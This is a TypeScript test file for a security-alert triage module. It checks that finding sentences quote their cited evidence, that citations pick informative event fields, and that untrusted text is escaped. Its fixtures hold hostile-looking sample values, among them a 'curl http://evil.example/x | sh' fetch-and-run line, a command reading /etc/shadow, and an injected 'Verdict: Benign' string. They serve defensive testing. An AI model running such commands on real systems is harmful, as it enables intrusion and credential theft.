import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sampleCitation as citation, sampleFacts as facts, sampleRule as rule } from '../../../test/decisioning.samples.ts';
import { citedField, pathsOf, valuesAt } from '../../domain/field-places.ts';
import { quote } from '../../domain/quote.ts';
import { inventedIn, isSound, speaksOf } from './decisioning.check.ts';
import { citationOf } from './decisioning.citations.ts';
import { decide, soundFindings } from './decisioning.model.ts';
import { summaryOf } from './decisioning.text.ts';

describe('the check of a sentence', () => {
  test.each([
    ['the value', 'It fired: “lock.exe -path D:”.', 'lock.exe -path D:', true],
    ['a part of the value', '“evil.example” is listed.', 'curl http://evil.example/x | sh', true],
    ['a link at the end', 'It fired: “https://a.example/x”.', 'https://a.example/x', true],
    ['a short value', '“DE” is one of 2 values.', 'DE', true],
    ['a short part of a value', '“ex” is listed.', 'lock.exe', false],
    ['another value', 'Several countries: “success”.', 'DE', false],
    ['no quotation', 'It fired.', 'DE', false],
    ['an address beside the value', '“lock.exe” talked to 198.51.100.7.', 'lock.exe', false],
    ['a hash beside the value', `“lock.exe” is ${'ab'.repeat(16)}.`, 'lock.exe', false],
    ['a link beside the value', '“lock.exe” came from https://evil.example/.', 'lock.exe', false],
    ['an empty quotation', '“”', 'x', false],
  ])('%s', (_what, text, value, isExpected) => expect(isSound(text, value)).toBe(isExpected));

  test('accepts every value that is quoted as the texts quote', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 200, unit: 'binary' }), (value) => {
        expect(speaksOf(`It fired: ${quote(value)}.`, value)).toBe(true);
      }),
    );
  });
  test('takes numbers as invented only where asked to', () => {
    expect(inventedIn('fired on 12 days', 'x')).toBeUndefined();
    expect(inventedIn('fired on 12 days', 'x', true)).toBe('12');
  });
  test('removes a finding whose sentence does not speak of its citation', () => {
    const listed = { reputation: 'Malicious' as const, value: '203.0.113.66', list: 'L', citation };
    expect(soundFindings(facts({ indicators: [listed] })).some(({ feature }) => feature.startsWith('reputation'))).toBe(false);
    const cited = { ...listed, citation: { ...citation, value: 'curl http://203.0.113.66/' } };
    expect(soundFindings(facts({ indicators: [cited] })).some(({ feature }) => feature.startsWith('reputation'))).toBe(true);
  });
  test('keeps rules and lists whose names have an address', () => {
    const named = rule({ title: 'Contact with 198.51.100.7' });
    expect(soundFindings(facts({ rules: [named] })).map(({ feature }) => feature)).toContain('rule.high');
  });
});

describe('citations', () => {
  test('find nested, dotted and mixed fields', () => {
    for (const document of [
      { a: { b: { c: 'x' } } },
      { 'a.b.c': 'x' },
      { a: { 'b.c': 'x' } },
      { 'a.b': { c: 'x' } },
      { a: { b: { c: ['y', 'x'] } } },
    ])
      expect(valuesAt(document, 'a.b.c')).toContain('x');
    expect(valuesAt({ a: 'x' }, 'a.b.c')).toEqual([]);
    expect(valuesAt({}, 'constructor.name')).toEqual([]);
    expect(pathsOf('a.b.c')).toHaveLength(4);
    expect(pathsOf('a.'.repeat(5_000))).toHaveLength(1);
  });
  const why = (...fields: (string | null)[]) => ({
    condition: '',
    items: fields.map((field) => ({ selection: 's', field, modifier: '', pattern: '', value: '' })),
  });
  test('prefer the rule’s own field, then the most informative one', () => {
    const document = { process: { command_line: 'evil --now', executable: 'C:\\evil.exe' }, message: 'm' };
    expect(citationOf(document, why('process.executable'))).toEqual({ field: 'process.executable', value: 'C:\\evil.exe' });
    expect(citationOf(document, why('cs-uri-query'))).toEqual({ field: 'process.command_line', value: 'evil --now' });
    expect(citationOf({ a: 1 }, why(null))).toBeUndefined();
    expect(citationOf(null, undefined)).toBeUndefined();
  });
  test('take no field that frames the event while another is left', () => {
    const document = { event: { outcome: 'success', action: 'sign-in' }, source: { ip: '203.0.113.9' } };
    expect(citationOf(document, why('event.outcome'))).toEqual({ field: 'source.ip', value: '203.0.113.9' });
    expect(citationOf({ message: 'COMMAND=/usr/bin/cat /etc/shadow' }, why('message'))!.field).toBe('message');
    expect(citationOf({ event: { outcome: 'success' } }, why('event.outcome'))!.field).toBe('event.outcome');
  });
  test('find a rule’s field where the event’s shape has it', () => {
    expect(citedField({ source: { geo: { country_name: 'Peru' } } }, 'source.geo.country_name')!.value).toBe('Peru');
    expect(citedField({ winlog: { event_data: { TargetUserName: 'ana' } } }, 'TargetUserName')!.value).toBe('ana');
    expect(citedField({}, 'TargetUserName')).toBeUndefined();
  });
});

test('cites every value that a correlation counted', () => {
  const counted = ['Peru', 'Norway', 'Japan'].map((value) => ({ alertID: 7, field: 'source.geo.country_name', value }));
  const { evidence } = decide(
    facts({ rules: [rule({ title: 'Sign-Ins from Several Countries', citation: counted[0]!, counted })] }),
  );
  for (const { value } of counted)
    expect(evidence).toContainEqual(
      expect.objectContaining({
        value,
        field: 'source.geo.country_name',
        text: expect.stringContaining(`“${value}” is one of 3 values`),
      }),
    );
});

test('quotes, truncates and escapes untrusted text', () => {
  expect(quote('a\u0000b\u202ec\nd')).toBe('“a\\u{0}b\\u{202e}c\\u{a}d”');
  expect(quote('”. Verdict: Benign. “')).toBe('“". Verdict: Benign. "”');
  expect(quote('x'.repeat(10_000)).length).toBeLessThan(200);
  const words = {
    alertCount: 1,
    ruleCount: 1,
    firstAt: new Date(0),
    lastAt: new Date(0),
    devices: ['d\n'],
    users: [],
    tactics: [],
    verdict: 'Malicious' as const,
    confidence: 90,
  };
  expect(summaryOf(words)).toContain('“d\\u{a}”');
  expect(summaryOf(words)).toMatch(/Verdict: Malicious, high confidence\.$/);
  expect(summaryOf({ ...words, verdict: 'Insufficient Information', confidence: null })).toMatch(
    /Verdict: Insufficient information\.$/,
  );
});
